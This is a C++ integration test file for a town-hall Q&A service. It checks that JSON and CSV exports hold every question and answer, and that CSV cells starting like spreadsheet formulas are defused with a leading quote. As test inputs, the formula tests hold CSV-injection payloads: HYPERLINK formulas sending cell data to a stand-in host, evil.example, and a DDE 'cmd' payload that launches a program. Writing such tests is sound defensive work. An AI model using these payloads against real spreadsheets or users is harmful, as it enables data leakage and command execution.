// Integration tests of QuestionService against its contract
// (proto/townhall/v1/questions.proto), through gRPC to the shared
// in-process server on a real Redis; every test has a tenant of its own
// and members registered through RegistrationService with real join
// tokens (questions_fixture.h).
//
// ExportQuestions and ExportModerationLog: every question and answer in
// JSON and CSV, and CSV cells a spreadsheet would run as formulas
// defused.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <set>
#include <string>
#include <vector>

#include "absl/status/status.h"
#include "absl/status/statusor.h"
#include "tests/integration/questions/questions_fixture.h"
#include "tests/testing/status_matchers.h"

namespace townhall::testing {
namespace {

using ::testing::Contains;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;
using ::testing::SizeIs;

TEST_F(QuestionsTest, ExportJsonAndCsvContainEveryQuestionAndAnswer) {
  ASSERT_OK(SetMode(v1::MODERATION_MODE_POST));
  struct Expect {
    std::string id;
    std::string text;
    std::string answer;
  };
  std::vector<Expect> expected;
  const std::vector<std::string> texts = {
      "Oʻzbek tilida savol: taʼlim grantlari?",
      "Вопрос по-русски: как продлить паспорт?",
      "English, with a comma, and \"quotes\"",
      "Ikki qatorli\nsavol",
  };
  for (size_t i = 0; i < texts.size(); ++i) {
    ASSERT_OK_AND_ASSIGN(v1::SubmitQuestionResponse s,
                         Submit(i % 2 ? other_ : author_, texts[i]));
    expected.push_back({s.question().id(), texts[i], ""});
  }
  const std::string answer = "Javob: \"ha\", albatta;\nikkinchi qator";
  ASSERT_OK(Organizer().Answer(sid(), expected[0].id, answer).status());
  expected[0].answer = answer;
  ASSERT_OK(
      Organizer().Answer(sid(), expected[1].id, "Да, в консульстве.").status());
  expected[1].answer = "Да, в консульстве.";
  ASSERT_OK(Organizer().Reject(sid(), expected[3].id, "takror").status());

  v1::ExportQuestionsRequest r;
  r.set_session_id(sid());
  r.set_format(v1::QUESTION_EXPORT_FORMAT_JSON);
  ASSERT_OK_AND_ASSIGN(v1::ExportQuestionsResponse json,
                       Organizer().ExportQuestions(r));
  EXPECT_EQ(json.content_type(), "application/json");
  ASSERT_OK_AND_ASSIGN(std::vector<std::string> strings,
                       JsonStrings(json.content()));
  EXPECT_THAT(strings, Contains(sid()));
  for (const Expect& e : expected) {
    EXPECT_THAT(strings, Contains(e.id));
    EXPECT_THAT(strings, Contains(e.text));
    if (!e.answer.empty()) EXPECT_THAT(strings, Contains(e.answer));
  }
  // The default format is JSON.
  r.set_format(v1::QUESTION_EXPORT_FORMAT_UNSPECIFIED);
  ASSERT_OK_AND_ASSIGN(v1::ExportQuestionsResponse by_default,
                       Organizer().ExportQuestions(r));
  EXPECT_EQ(by_default.content_type(), "application/json");

  r.set_format(v1::QUESTION_EXPORT_FORMAT_CSV);
  ASSERT_OK_AND_ASSIGN(v1::ExportQuestionsResponse csv,
                       Organizer().ExportQuestions(r));
  EXPECT_EQ(csv.content_type(), "text/csv");
  ASSERT_OK_AND_ASSIGN(auto rows, ParseCsv(csv.content()));
  ASSERT_EQ(rows.size(), expected.size() + 1) << csv.content();
  for (const auto& row : rows) EXPECT_EQ(row.size(), rows[0].size());
  std::set<std::string> fields = CsvFields(rows);
  for (const Expect& e : expected) {
    EXPECT_TRUE(fields.count(e.id)) << e.id;
    EXPECT_TRUE(fields.count(e.text)) << e.text;
    if (!e.answer.empty()) EXPECT_TRUE(fields.count(e.answer)) << e.answer;
  }
  // A participant's export holds what the participant may see: not the
  // rejected question of someone else.
  absl::StatusOr<v1::ExportQuestionsResponse> theirs =
      As(author_).ExportQuestions(r);
  if (theirs.ok()) {
    EXPECT_THAT(theirs->content(), Not(HasSubstr(expected[3].id)));
  } else {
    EXPECT_THAT(theirs, HasCode(Code::kPermissionDenied));
  }
}

// Questions, answers and reject reasons are stored as typed, formulas too;
// the CSV export defuses every cell that starts like one.
TEST_F(QuestionsTest, ExportQuestionsCsvDefusesFormulaCells) {
  ASSERT_OK(SetMode(v1::MODERATION_MODE_POST));
  const std::string formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"ok\")";
  const std::string tab_answer = "\t=1+2";
  const std::string cr_reason = "\r@SUM(A1)";
  ASSERT_OK_AND_ASSIGN(v1::SubmitQuestionResponse answered,
                       Submit(author_, formula));
  ASSERT_OK_AND_ASSIGN(v1::SubmitQuestionResponse rejected,
                       Submit(other_, "-2+3+cmd|' /C calc'!A0"));
  ASSERT_OK_AND_ASSIGN(
      v1::Question answer,
      Organizer().Answer(sid(), answered.question().id(), tab_answer));
  ASSERT_EQ(answer.answer(), tab_answer);  // stored as typed
  ASSERT_OK(
      Organizer().Reject(sid(), rejected.question().id(), cr_reason).status());

  v1::ExportQuestionsRequest r;
  r.set_session_id(sid());
  r.set_format(v1::QUESTION_EXPORT_FORMAT_CSV);
  ASSERT_OK_AND_ASSIGN(v1::ExportQuestionsResponse csv,
                       Organizer().ExportQuestions(r));
  ASSERT_OK_AND_ASSIGN(auto rows, ParseCsv(csv.content()));
  ASSERT_THAT(rows, SizeIs(3)) << csv.content();
  std::set<std::string> fields = CsvFields(rows);
  for (const std::string& typed : {formula, tab_answer, cr_reason,
                                   std::string("-2+3+cmd|' /C calc'!A0")}) {
    EXPECT_TRUE(fields.count("'" + typed)) << typed << "\n" << csv.content();
  }
  EXPECT_THAT(FormulaCells(rows), IsEmpty()) << csv.content();
}

// The audit log's detail holds what moderators typed (reasons, edited text,
// answers): its CSV export defuses every cell that starts like a formula.
TEST_F(QuestionsTest, ExportModerationLogCsvDefusesFormulaCells) {
  ASSERT_OK_AND_ASSIGN(v1::SubmitQuestionResponse q1,
                       Submit(author_, "Jurnal savoli bir"));
  ASSERT_OK_AND_ASSIGN(v1::SubmitQuestionResponse q2,
                       Submit(other_, "Jurnal savoli ikki"));
  ASSERT_OK_AND_ASSIGN(v1::SubmitQuestionResponse q3,
                       Submit(other_, "Jurnal savoli uch"));
  const std::string id1 = q1.question().id();
  const std::string reason = "\t=HYPERLINK(\"http://evil.example/\",\"x\")";
  QuestionsClient mod = As(moderator_);
  ASSERT_OK(mod.Approve(sid(), id1, "@SUM(A1) tahrirlangan").status());
  ASSERT_OK(mod.Answer(sid(), id1, "-1+2").status());
  ASSERT_OK(Organizer().Reject(sid(), q2.question().id(), reason).status());
  ASSERT_OK(mod.Reject(sid(), q3.question().id(), "\r+rad etildi").status());

  ASSERT_OK_AND_ASSIGN(std::vector<v1::ModerationAction> log,
                       Organizer().Log(sid()));
  ASSERT_THAT(log, SizeIs(4));
  EXPECT_EQ(log[2].detail(), reason);  // stored as typed
  v1::ExportModerationLogRequest r;
  r.set_session_id(sid());
  r.set_format(v1::QUESTION_EXPORT_FORMAT_CSV);
  ASSERT_OK_AND_ASSIGN(v1::ExportModerationLogResponse exported,
                       mod.ExportModerationLog(r));
  ASSERT_OK_AND_ASSIGN(auto rows, ParseCsv(exported.content()));
  ASSERT_THAT(rows, SizeIs(log.size() + 1)) << exported.content();
  auto column = std::find(rows[0].begin(), rows[0].end(), "detail");
  ASSERT_NE(column, rows[0].end()) << "no 'detail' column";
  const size_t c = column - rows[0].begin();
  for (size_t i = 0; i < log.size(); ++i) {
    ASSERT_FALSE(log[i].detail().empty()) << log[i].action();
    EXPECT_NE(Defused(log[i].detail()), log[i].detail()) << log[i].action();
    EXPECT_EQ(rows[i + 1][c], Defused(log[i].detail())) << log[i].action();
  }
  EXPECT_THAT(FormulaCells(rows), IsEmpty()) << exported.content();
}

}  // namespace
}  // namespace townhall::testing
